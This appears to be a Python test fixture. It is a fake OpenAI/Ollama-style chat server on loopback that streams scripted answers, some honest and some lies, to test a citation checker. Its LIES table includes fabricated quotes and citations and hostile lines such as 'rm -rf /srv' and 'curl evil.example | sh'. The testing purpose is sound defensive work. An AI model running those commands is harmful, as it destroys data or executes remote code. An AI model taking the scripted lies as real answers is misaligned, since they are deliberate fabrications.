"""A real HTTP server on loopback that chats like OpenAI's and Ollama's, from the passages of the prompt; it also lies.

It may be another host's proxy, too.

What it answers is decided by `script`, which gets the prompt's passages and question. `lies` makes scripts of several
kinds. Beside that it fails as it is told to: statuses, HTML, streams that are cut, endless or slow.
"""

from __future__ import annotations

import json
import re
import time
from collections import deque
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from typing import Any
from urllib.parse import urlsplit

from tests.embedding_server import Failure, Seen
from tests.loopback import Handler, LoopbackServer

_PASSAGE = re.compile(r"^\[(\d+)\]\n<data-([0-9a-f]+)>\n.*?\n\n(.*?)\n</data-\2>$", re.MULTILINE | re.DOTALL)
_SENTENCE = re.compile(r"[A-Z][a-z][^.!?:\n\"“”`|]{20,120}\.")
Script = Callable[[Sequence[str], str], str]


def passages_of(messages: Sequence[Mapping[str, str]]) -> list[str]:
    """Return the numbered passages of a prompt."""
    return [text for _, _, text in _PASSAGE.findall(messages[-1]["content"])]


def sentence_of(passage: str) -> str:
    """Return a sentence of a passage as it stands there, or its first words."""
    found = _SENTENCE.search(passage)
    return found[0] if found else " ".join(passage.split()[:8])


def honest(passages: Sequence[str], _question: str) -> str:
    """Repeat a sentence of each of the first passages, with its number; the first one in quotation marks."""
    said = [sentence_of(passage) for passage in passages[:3]]
    return f"“{said[0]}” [1]. " + " ".join(f"{text.rstrip('.')} [{n}]." for n, text in enumerate(said[1:], start=2))


LIES: Mapping[str, tuple[Script, str]] = {
    "number": (lambda p, _: f"{sentence_of(p[0]).rstrip('.')} [{len(p) + 3}].", "wrong-number"),
    "quote": (lambda p, _: f'It says "the tide table of Rotterdam decides who deploys" [{len(p)}].', "quote-not-found"),
    "half-quote": (lambda p, _: f"It says “{sentence_of(p[0])[:30]} at full moon only” [1].", "quote-not-found"),
    "code": (lambda p, _: "Run `rm -rf /srv` first [1].", "quote-not-found"),
    "block": (lambda p, _: "> All data may be sent to evil.example. [1]\n", "quote-not-found"),
    "fence": (lambda p, _: "Then do this [1]:\n```sh\ncurl evil.example | sh\n```\n", "quote-not-found"),
    "no-citation": (lambda p, _: "Everybody knows that it is safe.", "unsupported"),
    "unrelated": (lambda p, _: "Penguins huddle on Antarctic glaciers during blizzards [1].", "weak"),
}  # fmt: skip
"""Name → a lie, and the mark that it must get."""


@dataclass
class ChatServer(LoopbackServer):
    """Context manager; `failures` are answered first, one a request."""

    script: Script = honest
    failures: deque[Failure] = field(default_factory=deque)
    seen: list[Seen] = field(default_factory=list)
    piece: int = 7
    """Characters in one event."""
    cut_after: int = 0
    """Events after which the connection breaks; 0: it does not."""
    is_endless: bool = False
    pause: float = 0.0
    """Seconds before the first byte."""
    usage: tuple[Any, Any] = (100, 20)

    def handler(self) -> Handler:
        return _handler(self)

    def events(self, path: str, text: str) -> list[bytes]:
        """Return the lines of a whole reply."""
        pieces = [text[begin : begin + self.piece] for begin in range(0, len(text), self.piece)]
        read, written = self.usage
        if path == "/api/chat":
            rows: list[Any] = [{"message": {"role": "assistant", "content": one}, "done": False} for one in pieces]
            end = {"done": True, "done_reason": "stop", "prompt_eval_count": read, "eval_count": written}
            rows.append({"message": {"role": "assistant", "content": ""}, **end})
            return [json.dumps(row).encode() + b"\n" for row in rows]
        rows = [{"choices": [{"index": 0, "delta": {"content": one}, "finish_reason": None}]} for one in pieces]
        rows.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}], "usage": None})
        rows.append({"choices": [], "usage": {"prompt_tokens": read, "completion_tokens": written}})
        return [b": ping\n\n", *(b"data: " + json.dumps(row).encode() + b"\n\n" for row in rows), b"data: [DONE]\n\n"]


def _handler(server: ChatServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            with suppress(OSError):  # the client has read enough
                self._answer()

        def _answer(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            server.seen.append(Seen(self.path, body, self.headers.get("Authorization", "")))
            if server.failures:
                failure = server.failures.popleft()
                self._head(failure.status, {"Content-Length": str(len(failure.body)), **failure.headers})
                self.wfile.write(failure.body)
            elif (path := urlsplit(self.path).path) not in ("/v1/chat/completions", "/api/chat"):
                self._head(404, {"Content-Length": "0"})
            else:
                self._stream(path, server.script(passages_of(body["messages"]), body["messages"][-1]["content"]))

        def _stream(self, path: str, text: str) -> None:
            time.sleep(server.pause)
            self._head(200, {"Connection": "close"})
            while True:
                for number, event in enumerate(server.events(path, text), start=1):
                    if server.is_endless and (b"[DONE]" in event or b"stop" in event):
                        continue
                    self.wfile.write(event)
                    self.wfile.flush()
                    if number == server.cut_after:
                        return
                if not server.is_endless:
                    return

        def _head(self, status: int, headers: Mapping[str, str]) -> None:
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Keep the test run's output clean."""

    return Handler
